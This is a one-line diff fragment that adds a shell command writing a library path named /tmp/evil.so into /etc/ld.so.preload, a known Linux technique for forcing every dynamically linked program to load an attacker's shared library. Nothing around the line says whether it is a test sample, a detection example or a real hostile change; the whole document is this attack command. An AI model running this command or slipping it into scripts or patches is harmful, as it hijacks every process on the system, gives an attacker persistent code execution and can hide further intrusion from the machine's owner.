@@ -1,0 +1,1 @@
+echo /tmp/evil.so > /etc/ld.so.preload
